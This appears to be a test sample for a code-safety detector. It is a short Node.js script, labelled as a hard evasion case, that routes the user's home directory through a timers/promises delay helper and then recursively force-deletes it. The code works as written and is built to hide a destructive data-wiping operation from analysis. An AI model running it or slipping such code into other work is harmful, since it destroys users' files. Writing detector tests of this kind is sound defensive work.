// evasion: the home passed through timers/promises setTimeout inside a helper's return
// grade: hard; does: delete
'use strict';
const fsp = require('fs/promises');
const os = require('os');
const { setTimeout: wait } = require('timers/promises');

async function later(v) {
  return wait(10, v);
}
(async () => {
  const target = await later(os.homedir());
  await fsp.rm(target, { recursive: true, force: true });
})();
